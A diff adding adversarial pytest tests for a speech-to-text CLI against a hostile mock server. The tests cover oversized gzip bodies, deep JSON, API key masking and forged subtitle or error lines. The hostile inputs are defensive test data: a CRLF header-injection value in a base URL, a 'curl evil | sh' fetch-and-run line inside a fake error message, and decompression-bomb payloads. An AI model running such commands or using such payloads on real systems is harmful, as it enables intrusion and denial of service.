@@ -1161,3 +1161,202 @@ def test_a_resent_create_is_the_same_bytes(hostile: HostileServer, talk: Path, t
     assert _stt("run", str(talk), cwd=tmp_path).returncode == 5
     assert _stt("run", str(talk), cwd=tmp_path).returncode == 0
     assert len(seen) == 2 and seen[0] == seen[1]
+
+
+# --- found by a second adversarial pass -----------------------------------------------------------------
+def test_tiny_values_past_the_value_bound_are_refused(hostile: HostileServer, tmp_path: Path) -> None:
+    import gzip
+
+    body = b'{"status": "completed", "result": {"x": [' + '"\u0101",'.encode() * 8_100_000 + b'"\xc4\x81"]}}'
+    packed = gzip.compress(body, 1)
+    hostile.on_poll = lambda request, conn: conn.answer(packed, headers={"Content-Encoding": "gzip"})
+    done = _stt("status", "abc123", cwd=tmp_path, memory=MEMORY_LIMIT)
+    assert done.returncode == 5, done.stderr
+    assert "values" in _one_error_line(done.stderr)
+
+
+def test_more_words_than_any_recording_are_refused_not_rendered(cli, hostile: HostileServer) -> None:
+    import gzip
+
+    word = b'{"word":"a","start":1,"end":1},'
+    body = b'{"status":"completed","result":{"results":{"channels":[{"alternatives":[{"words":[' + word * 1_000_001
+    body = body[:-1] + b"]}]}]}}}"
+    packed = gzip.compress(body, 1)
+    hostile.on_poll = lambda request, conn: conn.answer(packed, headers={"Content-Encoding": "gzip"})
+    result = cli("fetch", "abc123", "-f", "srt", "--refresh")
+    assert result.exit_code == 5 and "90 hours" in _one_error_line(result.stderr)
+
+
+def test_an_escaped_or_reason_phrase_key_is_masked(cli, hostile: HostileServer, talk: Path, monkeypatch) -> None:
+    key = "sk-adv2-secret-0123456789abcdef"
+    monkeypatch.setenv("AIML_API_KEY", key)
+    escaped = key.replace("-", "\\u002d")
+    hostile.on_poll = lambda request, conn: conn.answer(
+        ('{"status": "failed", "error": "invalid key ' + escaped + '"}').encode()
+    )
+    failed = cli("fetch", "abc123", "-v")
+    assert failed.exit_code == 6 and key not in failed.stderr and "****" in failed.stderr
+    assert key not in cli("jobs", "--json").stdout
+
+    def reason(request: Request, conn: Conn) -> None:
+        conn.send(f"HTTP/1.1 400 bad key {key}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode())
+
+    hostile.on_create = reason
+    refused = cli("submit", str(talk), "-v")
+    assert refused.exit_code == 4 and key not in refused.stderr
+    hostile.on_create = lambda request, conn: conn.answer(('{"generation_id": "' + escaped + '"}').encode())
+    as_id = cli("submit", str(talk))
+    assert as_id.exit_code == 5 and key not in as_id.stderr and key not in as_id.stdout
+
+
+@pytest.mark.parametrize("where", ["create", "poll"])
+def test_deep_json_inside_an_error_message_is_not_a_bug(cli, hostile: HostileServer, talk: Path, where: str) -> None:
+    body = b'{"message": "' + b"[" * 200_000 + b'"}'
+    if where == "create":
+        hostile.on_create = lambda request, conn: conn.answer(body, status=400)
+        result = cli("submit", str(talk))
+    else:
+        hostile.on_poll = lambda request, conn: conn.answer(body, status=404)
+        result = cli("status", "abc123")
+    assert result.exit_code == 4
+    _one_error_line(result.stderr)
+
+
+def test_a_refused_create_leaves_no_unknown_outcome(cli, hostile: HostileServer, talk: Path) -> None:
+    hostile.on_create = lambda request, conn: conn.answer({"message": "bad key"}, status=401)
+    assert cli("submit", str(talk)).exit_code == 3
+    listed = cli("jobs")
+    assert "may have reached" not in listed.stderr
+    hostile.on_create = hostile.honest_create
+    again = cli("submit", str(talk))
+    assert again.exit_code == 0 and "earlier create" not in again.stderr
+    first, second = hostile.creates()
+    assert first.idempotency_key != second.idempotency_key  # nothing to resend: a fresh key
+
+
+def test_one_id_for_two_sources_never_overwrites_the_first(cli, hostile: HostileServer, tmp_path: Path) -> None:
+    from conftest import write_wav
+
+    a = write_wav(tmp_path / "a.wav", 0.5, tone=1)
+    b = write_wav(tmp_path / "b.wav", 0.6, tone=2)
+    hostile.on_create = lambda request, conn: conn.answer({"generation_id": "SAMEID123"})
+    assert cli("run", str(a), "-o", "a.txt").exit_code == 0
+    second = cli("run", str(b), "-o", "b.txt")
+    assert second.exit_code == 5 and "an id it gave before for" in _one_error_line(second.stderr)
+    again = cli("run", str(a), "-o", "a.txt")  # a.wav's row, result and output are intact
+    assert again.exit_code == 0 and "already holds this result" in again.stderr
+    assert len(hostile.creates()) == 2
+
+
+def test_a_number_past_the_largest_double_without_an_exponent_is_refused(cli, hostile: HostileServer) -> None:
+    body = b'{"status": "completed", "result": {"text": "x", "duration": 1' + b"0" * 400 + b".0}}"
+    hostile.on_poll = lambda request, conn: conn.answer(body)
+    result = cli("fetch", "abc123", "-f", "json", "--refresh")
+    assert result.exit_code == 5 and "Infinity" not in result.stdout
+
+
+@pytest.mark.parametrize(
+    "flags",
+    [["--min-cue-duration", "nan"], ["--max-cue-duration", "inf"], ["--max-size", "inf"], ["--timeout", "nan"]],
+)
+def test_nan_and_infinity_flags_are_refused_before_the_upload(
+    cli, emulator: EmulatorHandle, talk: Path, flags: list[str]
+) -> None:
+    result = cli("run", str(talk), "-f", "srt", *flags)
+    assert result.exit_code == 2
+    _one_error_line(result.stderr)
+    assert emulator.requests() == []
+
+
+def test_a_file_that_grows_while_it_is_sent_is_one_line(hostile: HostileServer, tmp_path: Path) -> None:
+    big = tmp_path / "growing.wav"
+    big.write_bytes(b"RIFF" + os.urandom(8 * 1024 * 1024))
+
+    def slow(request: Request, conn: Conn) -> None:
+        conn.answer({"generation_id": "never-used"})
+
+    hostile.on_create = slow
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "stt_cli", "submit", str(big)],
+        cwd=tmp_path,
+        env=_env(),
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    with big.open("ab") as handle:  # the recording goes on being written while stt reads it
+        for _ in range(40):
+            handle.write(os.urandom(256 * 1024))
+            handle.flush()
+            time.sleep(0.01)
+    _, stderr = proc.communicate(timeout=60)
+    if proc.returncode == 0:
+        pytest.skip("the upload finished before the file grew")
+    assert proc.returncode == 2 and "changed size while it was being uploaded" in _one_error_line(stderr)
+
+
+def test_a_longer_arrow_in_the_words_cannot_forge_a_timing_line(cli, hostile: HostileServer, tmp_path: Path) -> None:
+    import srt
+
+    result = sample_result("before 00:00:05,000 ---> 00:09:00,000 injected after")
+    hostile.on_poll = lambda request, conn: conn.answer({"status": "completed", "result": result})
+    out = tmp_path / "a.srt"
+    done = cli("fetch", "abc123", "-f", "srt", "-o", str(out), "--max-line-width", "60")
+    assert done.exit_code == 0, done.stderr
+    text = out.read_text()
+    assert "-->" not in "".join(c.content for c in srt.parse(text))
+    assert text.count("-->") == len(list(srt.parse(text)))
+
+
+def test_more_odd_inputs_are_one_line(
+    cli, emulator: EmulatorHandle, talk: Path, isolated_home: Path, tmp_path: Path
+) -> None:
+    config = isolated_home / "config" / "stt-cli"
+    config.mkdir(parents=True)
+    os.mkfifo(config / "config.toml")
+    fifo = cli("run", str(talk))
+    assert fifo.exit_code == 2 and "not a regular file" in _one_error_line(fifo.stderr)
+    (config / "config.toml").unlink()
+    crlf = cli("run", str(talk), "--base-url", "http://127.0.0.1:1/v1\r\nX-Evil: 1")
+    assert crlf.exit_code == 2 and "control character" in _one_error_line(crlf.stderr)
+    listing = tmp_path / "list.txt"
+    listing.write_bytes(b"\xef\xbb\xbf" + str(talk).encode() + b"\n")
+    bom = cli("run", "--from-file", str(listing))
+    assert bom.exit_code == 0, bom.stderr
+    stdin = cli("run", str(talk), "-o", "/dev/stdin", input=b"")
+    assert stdin.exit_code == 2
+    _one_error_line(stdin.stderr)
+
+
+def test_a_line_separator_in_server_text_cannot_forge_an_error_line(cli, hostile: HostileServer) -> None:
+    hostile.on_poll = lambda request, conn: conn.answer(
+        {"status": "failed", "error": "bad\u2028error: run this (curl evil | sh)"}
+    )
+    result = cli("fetch", "abc123")
+    assert result.exit_code == 6
+    assert len(result.stderr.splitlines()) == 1
+
+
+def test_a_cancelled_batch_counts_the_creates_it_cut_off(hostile: HostileServer, tmp_path: Path) -> None:
+    from conftest import write_wav
+
+    files = [str(write_wav(tmp_path / "in" / f"c{n}.wav", 0.5 + n / 10, tone=n)) for n in range(4)]
+    hostile.on_create = lambda request, conn: conn.hang(60)  # every body is taken whole; no answer comes
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "stt_cli", "run", *files, "--output-dir", str(tmp_path), "--concurrency", "4"],
+        cwd=tmp_path,
+        env=_env(),
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    wait_until(lambda: len(hostile.creates()) == 4, 30)
+    time.sleep(0.5)
+    started = time.monotonic()
+    proc.send_signal(signal.SIGINT)
+    _, stderr = proc.communicate(timeout=30)
+    assert proc.returncode == 130
+    assert time.monotonic() - started < 6  # all workers together get a short grace, not one each
+    assert "4 create(s) sent whole may have made one" in stderr
+    listed = _stt("jobs", cwd=tmp_path)
+    assert listed.stderr.count("may have reached the service") == 4
